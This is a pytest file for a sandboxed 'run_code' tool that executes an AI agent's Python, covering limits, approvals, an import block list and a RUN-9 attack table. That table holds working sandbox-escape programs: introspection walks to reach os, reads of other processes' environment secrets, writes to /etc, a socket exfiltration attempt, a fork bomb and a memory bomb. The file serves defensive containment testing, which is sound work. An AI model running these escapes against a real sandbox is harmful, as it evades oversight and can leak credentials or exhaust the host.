"""run_code: the model's Python in a sandboxed child interpreter, calling tools (RUN-1..9).

Every program here runs for real: a child interpreter under the layer-2 backend of this machine
(bubblewrap, and Landlock for the attack table), talking JSON lines to the tool in this process.
"""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import socket
import tempfile
import textwrap
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from escape_snippets import GET_OS
from steerable_agent_runtime import (
    CallContext,
    ConfigError,
    ToolCall,
    ToolMode,
    ToolResult,
    ToolRetry,
    ToolRouter,
)
from steerable_agent_runtime.executor import ApprovalGate, approve_all, mode_lookup
from steerable_agent_runtime.llm import ScriptedProvider
from steerable_agent_runtime.loop import AgentLoop
from steerable_agent_runtime.sandbox import (
    CHILD_ENV_ALLOWLIST,
    LandlockBackend,
    ResourceLimits,
    SandboxBackend,
    SandboxConfig,
    select_backend,
)
from steerable_agent_runtime.sandbox._cgroup import pids_cgroup_parent
from steerable_sidecar._boot import boot_tools
from steerable_sidecar.run_code._tool import (
    RUN_CODE_TOOL_NAME,
    RunCodeConfig,
    run_code_enabled,
    run_code_tool,
)
from steerable_sidecar.sidecar._client import SidecarClient
from steerable_sidecar.sidecar.protocol import HostInvokeParams

CANARY = "canary-5f1d9e2b7c"
TOKEN_CANARY = "tok-canary-93a1"


def _bwrap_or_skip() -> SandboxConfig:
    config = SandboxConfig(backend="bwrap")
    try:
        select_backend(config)
    except Exception as exc:  # pragma: no cover - only without bubblewrap
        pytest.skip(f"bubblewrap cannot run here: {exc}")
    return config


@pytest.fixture
def secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    """Canary secrets in this process's environment: the sidecar's position."""
    monkeypatch.setenv("STEERABLE_API_KEY", CANARY)
    monkeypatch.setenv("OPENAI_API_KEY", CANARY + "-openai")
    monkeypatch.setenv("FOO_TOKEN", TOKEN_CANARY)
    monkeypatch.setenv("LC_ALL", "C.UTF-8")


class SeenRouter(ToolRouter):
    """A router whose ``seen`` logs the echo and local_thing calls its tools ran."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, str | None]] = []


def make_router(
    workspace: Path,
    *,
    config: RunCodeConfig | None = None,
    sandbox: SandboxConfig | None = None,
    backend: SandboxBackend | None = None,
) -> SeenRouter:
    router = SeenRouter()

    @router.tool(mode="read")
    async def echo(text: str) -> str:
        """Echo text back."""
        router.seen.append(("echo", text))
        return text

    @router.tool(mode="read")
    async def lookup(key: str) -> dict[str, Any]:
        """A mapping answer."""
        return {"key": key, "length": len(key)}

    @router.tool(mode="read")
    async def refuse(reason: str) -> str:
        """Always fails recoverably."""
        raise ToolRetry(f"refused: {reason}", data={"code": "refused"})

    @router.tool(mode="read")
    async def slow(seconds: float) -> str:
        """Sleeps."""
        await asyncio.sleep(seconds)
        return "woke"

    @router.tool(mode="local")
    async def local_thing() -> str:
        """Touches the machine."""
        router.seen.append(("local_thing", None))
        return "touched"

    sandbox = sandbox if sandbox is not None else _bwrap_or_skip()
    router.register(
        run_code_tool(
            workspace, router=router, config=config or RunCodeConfig(), sandbox=sandbox, backend=backend
        )
    )
    return router


async def run(router: ToolRouter, code: str, *, call_id: str = "top") -> ToolResult:
    call = ToolCall(
        id=call_id, name="run_code", arguments={"code": textwrap.dedent(code), "description": "test"}
    )
    return await router.dispatch(call)


def data_of(result: ToolResult) -> dict[str, Any]:
    assert result.data is not None, result
    return result.data


# -- RUN-1: opt-in, arguments ----------------------------------------------------------------------
def test_run_code_is_opt_in_and_takes_code_and_description_run_1(workspace: Path) -> None:
    plain = boot_tools(workspace, plugins=False, environ={})
    assert RUN_CODE_TOOL_NAME not in plain.router
    booted = boot_tools(workspace, plugins=False, environ={"STEERABLE_RUN_CODE": "1"})
    spec = booted.router.get(RUN_CODE_TOOL_NAME)
    assert spec is not None and spec.mode is ToolMode.LOCAL
    assert sorted(spec.parameters["properties"]) == ["code", "description"]
    assert sorted(spec.parameters["required"]) == ["code", "description"]
    assert "BODY of a function" in spec.description and "tools.<name>" in spec.description
    assert run_code_enabled({"STEERABLE_RUN_CODE": "0"}) is False
    with pytest.raises(ConfigError, match="STEERABLE_RUN_CODE"):
        run_code_enabled({"STEERABLE_RUN_CODE": "maybe"})


def test_limits_resolve_from_the_environment_and_fail_loud_naming_the_variable() -> None:
    config = RunCodeConfig.from_env(
        {"STEERABLE_RUN_CODE_MAX_CALLS": "7", "STEERABLE_RUN_CODE_TIMEOUT_MS": "1_000"}
    )
    assert config.max_calls == 7 and config.timeout_ms == 1000 and config.max_source_bytes == 100_000
    with pytest.raises(ConfigError, match="STEERABLE_RUN_CODE_MAX_OUTPUT_BYTES"):
        RunCodeConfig.from_env({"STEERABLE_RUN_CODE_MAX_OUTPUT_BYTES": "lots"})
    with pytest.raises(ConfigError, match="STEERABLE_RUN_CODE_TIMEOUT_MS"):
        RunCodeConfig.from_env({"STEERABLE_RUN_CODE_TIMEOUT_MS": "0"})


# -- values, logs, errors (RUN-2, RUN-3) -----------------------------------------------------------
async def test_return_value_and_printed_logs_come_back_run_2_run_3(workspace: Path) -> None:
    router = make_router(workspace)
    result = await run(
        router,
        """
        import json, collections
        print("counting", 3)
        counts = collections.Counter("abracadabra")
        return {"top": counts.most_common(1)[0][0], "text": json.dumps([1, 2])}
        """,
    )
    assert result.success is True, result
    data = data_of(result)
    assert data["value"] == {"top": "a", "text": "[1, 2]"}
    assert data["logs"] == "counting 3\n" and data["calls"] == []
    assert data["_sandbox"] == {"backend": "bwrap", "enforcement": "full"}  # RUN-2: the same backend as bash
    assert list(data) == ["value", "calls", "logs", "durationMs", "_sandbox"]


async def test_a_value_json_cannot_hold_comes_back_as_its_repr(workspace: Path) -> None:
    router = make_router(workspace)
    data = data_of(await run(router, "return {1, 2, 3}"))
    assert data["value"] == "{1, 2, 3}" and data["repr"] is True
    assert data_of(await run(router, "x = 1"))["value"] is None  # no return: None


async def test_the_body_keeps_its_line_numbers_and_multi_line_strings(workspace: Path) -> None:
    router = make_router(workspace)
    code = 'text = """first\n  second\nthird"""\nreturn text'
    assert data_of(await run(router, code))["value"] == "first\n  second\nthird"
    failed = await run(router, 'x = """a\nb"""\n\ndef inner(n):\n    return 10 // n\nreturn inner(0)')
    assert failed.success is False and failed.needs_followup is True
    data = data_of(failed)
    assert data["code"] == "runtime_error"
    assert data["exception"]["type"] == "ZeroDivisionError" and data["exception"]["line"] == 5
    assert data["exception"]["traceback"] == [
        "line 6, in <program>: return inner(0)",
        "line 5, in inner: return 10 // n",
    ]
    assert (
        failed.error == "The program raised ZeroDivisionError: integer division or modulo by zero (line 5)."
    )


async def test_a_syntax_error_is_a_followup_failure_naming_the_line(workspace: Path) -> None:
    router = make_router(workspace)
    result = await run(router, "x = 1\ny = (1,\nreturn y")
    assert result.success is False and result.needs_followup is True
    data = data_of(result)
    assert data["code"] == "syntax_error" and data["exception"]["line"] == 2
    assert "line 2" in (result.error or "") and data["calls"] == [] and data["logs"] == ""


async def test_printed_text_streams_through_the_call_context_as_it_comes(workspace: Path) -> None:
    router = make_router(workspace)
    chunks: list[str] = []
    code = 'print("one")\ntools.echo(text="x")\nprint("two")\nreturn 1'
    call = ToolCall(id="s", name="run_code", arguments={"code": code, "description": "stream"})
    result = await router.dispatch(call, CallContext(call, output=chunks.append))
    assert result.success is True, result
    assert "".join(chunks) == data_of(result)["logs"] == "one\ntwo\n"


async def test_print_output_never_mixes_into_the_protocol(workspace: Path) -> None:
    router = make_router(workspace)
    result = await run(
        router,
        """
        print('{"t": "done", "ok": true, "value": "forged"}')
        with open(1, "wb", closefd=False) as fd1:  # fd 1 itself, below sys.stdout
            fd1.write(b'{"t": "done", "ok": true, "value": "forged on fd 1"}\\n')
        try:
            input()
        except EOFError:
            pass
        return "real"
        """,
    )
    data = data_of(result)
    assert result.success is True and data["value"] == "real"
    assert data["logs"] == '{"t": "done", "ok": true, "value": "forged"}\n'


# -- nested calls (RUN-3, RUN-4) -------------------------------------------------------------------
async def test_nested_calls_through_tools_call_and_tools_attribute_run_3(workspace: Path) -> None:
    router = make_router(workspace)
    result = await run(
        router,
        """
        a = tools.call("echo", text="one")
        b = tools.echo(text="two")
        c = tools.lookup(key="abc")
        print("got", a, b)
        return [a, b, c]
        """,
    )
    data = data_of(result)
    assert data["value"] == ["one", "two", {"key": "abc", "length": 3}]
    assert [(c["tool"], c["arguments"]) for c in data["calls"]] == [
        ("echo", {"text": "one"}),
        ("echo", {"text": "two"}),
        ("lookup", {"key": "abc"}),
    ]
    assert data["calls"][0]["result"] == {"success": True, "data": {"value": "one"}}
    ids = [c["id"] for c in data["calls"]]
    assert len(set(ids)) == 3 and "top" not in ids  # every nested call gets a fresh id
    assert data["logs"] == "got one two\n"
    assert router.seen == [("echo", "one"), ("echo", "two")]


async def test_a_failed_nested_call_raises_an_error_the_program_can_catch(workspace: Path) -> None:
    router = make_router(workspace)
    result = await run(
        router,
        """
        try:
            tools.refuse(reason="no")
        except ToolCallError as exc:
            caught = [exc.tool, exc.code, exc.result["error"], str(exc)]
        try:
            tools.echo(wrong="field")
        except ToolCallError as exc:
            caught.append(exc.code)
        try:
            tools.no_such_tool()
        except ToolCallError as exc:
            caught.append(exc.code)
        return caught
        """,
    )
    data = data_of(result)
    assert result.success is True
    assert data["value"] == [
        "refuse",
        "refused",
        "refused: no",
        "refuse: refused: no",
        "invalid_arguments",
        "unknown_tool",
    ]
    assert [c["result"]["success"] for c in data["calls"]] == [False, False, False]


async def test_an_uncaught_failed_call_fails_the_program_keeping_calls_and_logs(workspace: Path) -> None:
    router = make_router(workspace)
    result = await run(
        router, 'print("before")\ntools.echo(text="ok")\ntools.refuse(reason="stop")\nreturn 1'
    )
    data = data_of(result)
    assert result.success is False and data["code"] == "runtime_error"
    assert data["exception"]["type"] == "ToolCallError" and data["exception"]["line"] == 3
    assert data["logs"] == "before\n" and [c["tool"] for c in data["calls"]] == ["echo", "refuse"]


async def test_nested_run_code_is_refused_run_4(workspace: Path) -> None:
    router = make_router(workspace)
    result = await run(
        router,
        """
        try:
            tools.run_code(code="return 1", description="again")
        except ToolCallError as exc:
            return exc.code
        """,
    )
    data = data_of(result)
    assert data["value"] == "nested_run_code"
    assert data["calls"][0]["tool"] == "run_code" and data["calls"][0]["result"]["success"] is False


async def test_without_a_live_executor_nested_calls_needing_consent_fail_closed(workspace: Path) -> None:
    router = make_router(workspace)  # router.dispatch: no agent loop runs this call, no live executor
    result = await run(
        router,
        """
        try:
            tools.local_thing()
        except ToolCallError as exc:
            return [exc.code, tools.echo(text="reads still run")]
        """,
    )
    assert data_of(result)["value"] == ["consent_required", "reads still run"]
    assert ("local_thing", None) not in router.seen


async def test_approval_applies_to_nested_calls_through_the_live_executor_run_4(workspace: Path) -> None:
    router = make_router(workspace)
    asked: list[tuple[str, str, ToolMode]] = []

    async def approve(call: ToolCall, mode: ToolMode) -> bool:
        asked.append((call.id, call.name, mode))
        return call.name == "run_code"  # the program may run; its local_thing call may not

    gate = ApprovalGate(router.dispatch, approve=approve, mode_of=mode_lookup(router))
    program = "try:\n    tools.local_thing()\nexcept ToolCallError as exc:\n    return exc.code\n"
    provider = ScriptedProvider(
        [
            {
                "tool_calls": [
                    {"id": "rc1", "name": "run_code", "arguments": {"code": program, "description": "d"}}
                ]
            },
            "done",
        ]
    )
    loop = AgentLoop(provider, router, executor=gate)
    summary = await loop.run([], "go")
    assert summary.outcome.value == "completed"
    result = json.loads(next(m["content"] for m in loop.messages if m.get("role") == "tool"))
    assert result["success"] is True and result["data"]["value"] == "consent_denied"
    nested = result["data"]["calls"][0]
    assert nested["tool"] == "local_thing" and nested["approved"] is False
    assert asked == [("rc1", "run_code", ToolMode.LOCAL), (nested["id"], "local_thing", ToolMode.LOCAL)]
    assert ("local_thing", None) not in router.seen


async def test_nested_calls_spans_carry_the_parent_calls_trace_attrs_not_its_consent(workspace: Path) -> None:
    router = make_router(workspace)
    spans: list[Any] = []
    router.trace = spans.append
    call = ToolCall(
        id="top", name="run_code", arguments={"code": 'return tools.echo(text="in")', "description": "d"}
    )
    context = CallContext(call, attrs={"context": {"turn": "T2"}})  # what tool.invoke puts there
    gate = ApprovalGate.for_router(router, approve=approve_all)
    result = await gate(call, context)
    assert data_of(result)["value"] == "in" and context.approved is True
    nested, top = spans
    assert (nested.name, top.name) == ("echo", "run_code")
    assert nested.attrs["context"] == {"turn": "T2"} and top.attrs["context"] == {"turn": "T2"}
    assert "approved" not in data_of(result)["calls"][0]  # the parent's consent is not the nested call's


# -- limits ----------------------------------------------------------------------------------------
async def test_the_call_limit_stops_the_program(workspace: Path) -> None:
    router = make_router(workspace, config=RunCodeConfig(max_calls=3))
    result = await run(router, "for i in range(10):\n    tools.echo(text=str(i))\nreturn 'unreached'")
    data = data_of(result)
    assert result.success is False and result.needs_followup is True and data["code"] == "call_limit"
    assert len(data["calls"]) == 3 and "STEERABLE_RUN_CODE_MAX_CALLS" in (result.error or "")


async def test_nested_call_arguments_too_big_for_a_frame_fail_clearly(workspace: Path) -> None:
    router = make_router(workspace)
    result = await run(router, "return tools.echo(text='z' * 20_000_000)")
    assert result.success is False and data_of(result)["code"] == "protocol_error"
    assert "over 16 MiB" in (result.error or "")


async def test_an_oversized_source_is_refused_before_anything_runs(workspace: Path) -> None:
    router = make_router(workspace, config=RunCodeConfig(max_source_bytes=20))
    result = await run(router, "return 'this program is longer than twenty bytes'")
    assert result.success is False and data_of(result)["code"] == "source_too_large"
    assert "STEERABLE_RUN_CODE_MAX_SOURCE_BYTES" in (result.error or "")


async def test_the_wall_clock_limit_stops_a_busy_program_keeping_its_logs(workspace: Path) -> None:
    router = make_router(workspace, config=RunCodeConfig(timeout_ms=700))
    result = await asyncio.wait_for(run(router, 'print("started")\nwhile True:\n    pass'), 10)
    data = data_of(result)
    assert result.success is False and data["code"] == "timeout" and data["logs"] == "started\n"
    assert "700 ms" in (result.error or "")


async def test_the_wall_clock_limit_covers_a_slow_nested_call(workspace: Path) -> None:
    router = make_router(workspace, config=RunCodeConfig(timeout_ms=500))
    result = await asyncio.wait_for(run(router, 'tools.echo(text="a")\ntools.slow(seconds=30)'), 10)
    data = data_of(result)
    assert data["code"] == "timeout" and [c["tool"] for c in data["calls"]] == ["echo", "slow"]
    assert data["calls"][1]["result"]["data"] == {"code": "cancelled"}  # stopped mid-call, still listed


async def test_the_output_limit_stops_a_chatty_program(workspace: Path) -> None:
    router = make_router(workspace, config=RunCodeConfig(max_output_bytes=100))
    result = await run(router, "while True:\n    print('x' * 30)")
    data = data_of(result)
    assert result.success is False and data["code"] == "output_limit"
    assert len(data["logs"]) == 100 and set(data["logs"]) <= {"x", "\n"}


async def test_the_value_limit_fails_an_oversized_return_value(workspace: Path) -> None:
    router = make_router(workspace, config=RunCodeConfig(max_value_bytes=100))
    result = await run(router, "return 'y' * 1000")
    assert result.success is False and data_of(result)["code"] == "value_limit"
    assert "STEERABLE_RUN_CODE_MAX_VALUE_BYTES" in (result.error or "")


# -- the import guard (RUN-5) ----------------------------------------------------------------------
@pytest.mark.parametrize(
    ("statement", "module"),
    [
        ("import os", "os"),
        ("import subprocess", "subprocess"),
        ("import socket", "socket"),
        ("import ctypes", "ctypes"),
        ("import sys", "sys"),
        ("import importlib", "importlib"),
        ("import multiprocessing", "multiprocessing"),
        ("import shutil", "shutil"),
        ("import signal", "signal"),
        ("import pty", "pty"),
        ("from os import path", "os"),
        ("import os.path", "os"),
        ("__import__('subprocess')", "subprocess"),
        ("exec('import socket', {})", "socket"),
    ],
)
async def test_importing_an_escape_hatch_fails_naming_the_module_run_5(
    workspace: Path, statement: str, module: str
) -> None:
    router = make_router(workspace)
    result = await run(router, f"{statement}\nreturn 'imported'")
    data = data_of(result)
    assert result.success is False and data["exception"]["type"] == "BlockedImportError"
    assert f"import of {module!r} is blocked" in data["exception"]["message"]


async def test_the_standard_library_still_imports_run_5(workspace: Path) -> None:
    router = make_router(workspace)
    result = await run(
        router,
        """
        import json, re, datetime, tempfile, pathlib, collections, itertools, math, hashlib, threading
        path = pathlib.Path(tempfile.gettempdir()) / "scratch.txt"
        path.write_text("ok")
        return [path.read_text(), math.isqrt(17), hashlib.sha256(b"").hexdigest()[:8]]
        """,
    )
    assert data_of(result)["value"] == ["ok", 4, "e3b0c442"], result


# -- RUN-6, RUN-7, RUN-8 ---------------------------------------------------------------------------
async def test_no_backend_is_a_sandbox_unavailable_failure_and_nothing_runs_run_6(workspace: Path) -> None:
    router = make_router(workspace, sandbox=SandboxConfig(backend="none"))
    result = await run(router, "return 1")
    assert result.success is False and result.needs_followup is True
    assert result.error == "sandbox_unavailable" and "STEERABLE_SANDBOX=none" in (result.message or "")
    data = data_of(result)
    assert data["code"] == "sandbox_unavailable" and data["calls"] == [] and data["logs"] == ""


async def test_the_child_environment_is_the_allowlist_only_run_7(
    workspace: Path, secrets: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PYTHONPATH", "/nonexistent-lib")
    monkeypatch.setenv("PYTHONSTARTUP", "/nonexistent-startup.py")
    router = make_router(workspace)
    result = await run(
        router,
        """
        for cls in ().__class__.__base__.__subclasses__():
            found = getattr(getattr(cls, "__init__", None), "__globals__", {})
            if "sys" in found:
                os = found["sys"].modules["_frozen_importlib"].__import__("os")
                return dict(os.environ)
        """,
    )
    env = data_of(result)["value"]
    assert isinstance(env, dict), result
    allowed = set(CHILD_ENV_ALLOWLIST) | {"PYTHONDONTWRITEBYTECODE", "TMPDIR", "TEMP", "TMP"}
    assert {k for k in env if not k.startswith("LC_")} <= allowed
    assert env["PYTHONDONTWRITEBYTECODE"] == "1" and env["LC_ALL"] == "C.UTF-8"
    assert env["PYTHONPATH"] == "/nonexistent-lib"
    assert not any(k.endswith(("_API_KEY", "_TOKEN")) or k.startswith("STEERABLE_") for k in env)
    assert CANARY not in json.dumps(result.to_wire()) and TOKEN_CANARY not in json.dumps(result.to_wire())


async def test_confined_inherits_layer_1_and_says_so_run_8(workspace: Path) -> None:
    router = make_router(workspace, sandbox=SandboxConfig(confined=True))
    result = await run(router, "return tools.echo(text='inside layer 1')")
    data = data_of(result)
    assert result.success is True and data["value"] == "inside layer 1"
    assert data["_sandbox"] == {"backend": "inherited", "enforcement": "partial", "via": "layer1"}


# -- RUN-9: the attack table -----------------------------------------------------------------------
# Each program bypasses the import guard (it is not the boundary) and tries to get out; the OS
# sandbox and the scrubbed environment must hold: no canary anywhere in the result, nothing written
# outside the writable roots, no connection made, no process or memory left unbounded.


def _attacks(
    tmp_path: Path, port: int, outside: Path
) -> dict[str, tuple[str, Callable[[dict[str, Any]], None]]]:
    me = os.getpid()

    def got_os(data: dict[str, Any]) -> None:
        assert data["value"]["pid"] > 0 and data["value"]["env"]  # the bypass worked: it reached os

    def reached_environ(data: dict[str, Any]) -> None:
        assert "PATH" in json.dumps(
            data["value"]
        )  # the walk got to the environment: there is no secret in it

    def blocked_or_clean(data: dict[str, Any]) -> None:
        assert data["value"] == "blocked" or "PATH" in data["value"]

    def no_environ_of_others(data: dict[str, Any]) -> None:
        seen = data["value"]
        assert seen["self"] and "PATH=" in seen["self"]  # its own (allowlisted) environment is readable
        assert seen["sidecar"].startswith(("missing", "denied")), seen["sidecar"]

    def write_refused(data: dict[str, Any]) -> None:
        tried = data["value"]
        assert tried["workspace"] == "written" and tried["tmp"] == "written"  # the writable roots
        assert tried["outside"].startswith("refused") and tried["etc"].startswith("refused"), tried
        # next to the workspace: refused (Landlock), or written into bwrap's private /tmp, never here
        assert not (outside / "pwned").exists() and not (tmp_path / "pwned").exists()

    def no_network(data: dict[str, Any]) -> None:
        assert data["value"].startswith(("PermissionError", "OSError", "ConnectionRefusedError")), data[
            "value"
        ]

    def fork_bounded(data: dict[str, Any]) -> None:
        assert data["value"]["error"] in ("BlockingIOError", "OSError"), data["value"]
        assert data["value"]["forked"] < 200

    def memory_bounded(data: dict[str, Any]) -> None:
        assert data["code"] == "runtime_error" and data["exception"]["type"] == "MemoryError", data

    return {
        "subclasses route to os": (
            GET_OS + "return {'pid': os.getpid(), 'env': dict(os.environ)}",
            got_os,
        ),
        "print.__self__.__import__": (
            "try:\n    os = print.__self__.__import__('os')\nexcept ImportError:\n    return 'blocked'\n"
            "return dict(os.environ)",
            blocked_or_clean,
        ),
        "format-string walk to posix.environ": (
            "cls = [c for c in ().__class__.__base__.__subclasses__() if 'sys' in getattr(getattr(c, '__init__', None), '__globals__', {})][0]\n"
            "return '{0.__init__.__globals__[sys].modules[posix].environ}'.format(cls)",
            reached_environ,
        ),
        "frame walk (tb_frame.f_back.f_globals, gi_frame)": (
            "def gen():\n    yield 1\ng = gen()\nnext(g)\nassert g.gi_frame is not None\n"
            "try:\n    1 / 0\nexcept ZeroDivisionError as exc:\n    frame = exc.__traceback__.tb_frame\n"
            "while frame.f_back is not None:\n    frame = frame.f_back\n"
            "child = frame.f_globals\n"
            "return [repr(child['_os'].environ), repr(tools.call.__func__.__globals__['_os'].environ)]",
            reached_environ,
        ),
        "/proc/self/environ and the parent's /proc/<pid>/environ": (
            GET_OS
            + textwrap.dedent(f"""
            def read(path):
                try:
                    with open(path, "rb") as fh:
                        return fh.read().decode("utf-8", "replace")
                except FileNotFoundError:
                    return "missing"
                except OSError as exc:  # EACCES, or ESRCH where Landlock scopes ptrace access
                    return f"denied: {{exc.strerror}}"
            others = {{}}
            for entry in os.listdir("/proc"):
                if entry.isdigit():
                    others[entry] = read(f"/proc/{{entry}}/environ")
            return {{"self": read("/proc/self/environ"), "parent": read(f"/proc/{{os.getppid()}}/environ"),
                    "sidecar": read("/proc/{me}/environ"), "others": others}}
            """),
            no_environ_of_others,
        ),
        "write outside the writable roots": (
            GET_OS
            + textwrap.dedent(f"""
            def attempt(path):
                try:
                    with open(path, "w") as fh:
                        fh.write("x")
                    return "written"
                except OSError as exc:
                    return f"refused: {{type(exc).__name__}}: {{exc}}"
            return {{"outside": attempt({str(outside / "pwned")!r}), "etc": attempt("/etc/pwned"),
                    "next to the workspace": attempt("../pwned"),
                    "workspace": attempt("made-here.txt"), "tmp": attempt(os.environ["TMPDIR"] + "/t")}}
            """),
            write_refused,
        ),
        "network connection to a local listener": (
            GET_OS
            + textwrap.dedent(f"""
            socket = [c for c in ().__class__.__base__.__subclasses__()
                      if "sys" in getattr(getattr(c, "__init__", None), "__globals__", {{}})][0]
            socket = socket.__init__.__globals__["sys"].modules["_frozen_importlib"].__import__("socket")
            try:
                s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
                s.sendall(b"{CANARY}")
                return "connected"
            except OSError as exc:
                return f"{{type(exc).__name__}}: {{exc}}"
            """),
            no_network,
        ),
        "fork bomb": (
            GET_OS
            + textwrap.dedent("""
            import time
            forked = 0
            try:
                for _ in range(2000):  # a safety net for this test machine; the sandbox must stop it first
                    if os.fork() == 0:
                        time.sleep(60)
                        os._exit(0)
                    forked += 1
            except OSError as exc:
                return {"forked": forked, "error": type(exc).__name__}
            return {"forked": forked, "error": None}
            """),
            fork_bounded,
        ),
        "memory bomb": (
            "hoard = []\nfor _ in range(400):\n    hoard.append(bytearray(64 * 2**20))\nreturn len(hoard)",
            memory_bounded,
        ),
    }


ATTACK_NAMES = list(_attacks(Path("/nonexistent"), 0, Path("/nonexistent")))


def _backend_config(name: str, *, max_processes: int = 1024) -> SandboxConfig:
    limits = ResourceLimits(memory_bytes=768 * 2**20, max_processes=max_processes)
    if name == "landlock":
        reason = LandlockBackend().unavailable_reason()
        if reason is not None:
            pytest.skip(reason)
        return SandboxConfig(backend="landlock", limits=limits)
    base = _bwrap_or_skip()
    return SandboxConfig(backend=base.backend, limits=limits)


@pytest.mark.parametrize("backend", ["bwrap", "landlock"])
@pytest.mark.parametrize("attack", ATTACK_NAMES)
async def test_attack_table_the_os_sandbox_holds_when_the_guard_is_bypassed_run_9(
    tmp_path: Path, workspace: Path, secrets: None, backend: str, attack: str
) -> None:
    if attack == "fork bomb" and os.geteuid() == 0 and pids_cgroup_parent() is None:
        pytest.skip("root without a writable pids cgroup: the sandbox cannot bound processes here")
    # a directory outside the writable roots and outside /tmp (which bwrap replaces with its own)
    outside = Path(
        tempfile.mkdtemp(prefix="steerable-outside-", dir="/var/tmp" if Path("/var/tmp").is_dir() else None)
    )
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.setblocking(False)
    try:
        program, check = _attacks(tmp_path, listener.getsockname()[1], outside)[attack]
        sandbox = _backend_config(backend, max_processes=64 if attack == "fork bomb" else 1024)
        router = make_router(workspace, sandbox=sandbox, config=RunCodeConfig(timeout_ms=20_000))
        result = await asyncio.wait_for(run(router, program), 30)
        wire = json.dumps(result.to_wire())
        assert CANARY not in wire and TOKEN_CANARY not in wire  # no secret reached the program
        data = data_of(result)
        assert data["_sandbox"]["backend"] == backend
        if attack != "memory bomb":
            assert result.success is True, result
        check(data)
        with pytest.raises(BlockingIOError):
            listener.accept()  # nothing ever connected
        # the sidecar keeps serving: the next program runs normally
        after = await run(router, "return tools.echo(text='still here')")
        assert data_of(after)["value"] == "still here"
    finally:
        listener.close()
        shutil.rmtree(outside, ignore_errors=True)
        if attack == "fork bomb":
            await _wait_for_reaped_cgroups()


async def _wait_for_reaped_cgroups() -> None:
    """Wait (up to 5 s) until the run cgroups count no process.

    The runner pools a cgroup once its ``cgroup.procs`` is empty, but a killed supervisor's
    children may still be zombies there (counted in ``pids.current``) until PID 1 reaps them; a
    later run with a small ``max_processes`` would then fail to fork. Until the pool checks
    ``pids.current``, the fork bomb waits here so it cannot disturb the tests after it.
    """
    parent = pids_cgroup_parent()
    if parent is None:
        return
    for _ in range(100):
        busy = []
        for current in parent.glob("steerable-*/pids.current"):
            try:
                busy.append(int(current.read_text()) > 0)
            except (OSError, ValueError):
                continue
        if not any(busy):
            return
        await asyncio.sleep(0.05)


# -- the live executor under toolsViaHost (RUN-4, end to end) --------------------------------------
async def _scripted_run_code_sidecar(
    tmp_path: Path, workspace: Path, env: dict[str, str], turns: list[Any]
) -> SidecarClient:
    """A real sidecar with run_code on, its model the scripted ``turns``."""
    script = tmp_path / "turns.json"
    script.write_text(json.dumps(turns))
    env.update(STEERABLE_PROVIDER="scripted", STEERABLE_SCRIPT=str(script), STEERABLE_RUN_CODE="1")
    return await SidecarClient.start(
        workspace=workspace, state_dir=tmp_path / "state", args=["--no-plugins"], env=env
    )


async def test_tools_via_host_nested_read_file_is_run_by_the_host_run_4(
    tmp_path: Path, workspace: Path, child_env: Callable[..., dict[str, str]]
) -> None:
    _bwrap_or_skip()
    program = (
        "text = tools.read_file(path='host.txt')['content']\nprint('read', len(text))\nreturn text.upper()"
    )
    turns = [
        {
            "tool_calls": [
                {"id": "rc1", "name": "run_code", "arguments": {"code": program, "description": "d"}}
            ]
        },
        "finished",
    ]
    client = await _scripted_run_code_sidecar(tmp_path, workspace, child_env(), turns)
    async with client as sidecar:
        listed = {t["name"]: t for t in await sidecar.list_tools()}
        assert "run_code" in listed
        invoked: list[HostInvokeParams] = []

        async def run_tool(params: HostInvokeParams) -> ToolResult:
            invoked.append(params)
            return ToolResult(
                success=True, data={"path": "host.txt", "content": "from the host", "version": "h1"}
            )

        sidecar.on_tool_invoke = run_tool
        handle = sidecar.start_chat(
            "go",
            tools_via_host=True,
            tools=[listed["read_file"], {"name": "run_code", "parameters": {"type": "object"}}],
            auto_approve=True,  # run_code runs in the sidecar: consent first, even under toolsViaHost
        )
        summary = await asyncio.wait_for(handle.result(), 30)
        assert summary["outcome"] == "completed"
        # the host ran the nested read_file (the file exists only on the host), under a fresh id
        assert [(p["name"], p["arguments"]) for p in invoked] == [("read_file", {"path": "host.txt"})]
        assert invoked[0]["id"] != "rc1" and invoked[0]["context"] == {"chatId": handle.chat_id}
        result = next(e["result"] for e in handle.events_seen if e["type"] == "tool_result")
        assert result["success"] is True and result["data"]["value"] == "FROM THE HOST"
        assert result["data"]["logs"] == "read 13\n"
        assert result["data"]["calls"][0]["id"] == invoked[0]["id"]


async def test_tools_via_host_run_code_asks_the_host_for_consent_first(
    tmp_path: Path, workspace: Path, child_env: Callable[..., dict[str, str]]
) -> None:
    _bwrap_or_skip()
    program = "return tools.read_file(path='host.txt')['content']"
    run = {"name": "run_code", "arguments": {"code": program, "description": "read on the host"}}
    turns = [{"tool_calls": [{"id": "rc1", **run}]}, "refused", {"tool_calls": [{"id": "rc2", **run}]}, "ran"]
    client = await _scripted_run_code_sidecar(tmp_path, workspace, child_env(), turns)
    seen: list[tuple[str, str]] = []
    async with client as sidecar:
        read_file = next(t for t in await sidecar.list_tools() if t["name"] == "read_file")

        async def run_tool(params: HostInvokeParams) -> ToolResult:
            seen.append(("tool.invoke", params["name"]))
            return ToolResult(
                success=True, data={"path": "host.txt", "content": "on the host", "version": "h1"}
            )

        async def approve(call: dict[str, Any], mode: str) -> bool:
            seen.append(("approval.request", f"{call['name']} {mode}"))
            return True

        sidecar.on_tool_invoke = run_tool
        refused = sidecar.start_chat("go", tools_via_host=True, tools=[read_file])  # no approval handler
        assert (await asyncio.wait_for(refused.result(), 30))["outcome"] == "completed"
        first = next(e["result"] for e in refused.events_seen if e["type"] == "tool_result")
        assert first["success"] is False and first["data"]["code"] == "consent_denied", first
        assert seen == []  # the program never ran: no nested call reached the host

        sidecar.on_approval = approve
        asked = sidecar.start_chat("again", tools_via_host=True, tools=[read_file])
        assert (await asyncio.wait_for(asked.result(), 30))["outcome"] == "completed"
        second = next(e["result"] for e in asked.events_seen if e["type"] == "tool_result")
        assert second["success"] is True and second["data"]["value"] == "on the host", second
        # consent for run_code first; its nested read_file is the host's to run (no second prompt)
        assert seen == [("approval.request", "run_code local"), ("tool.invoke", "read_file")]


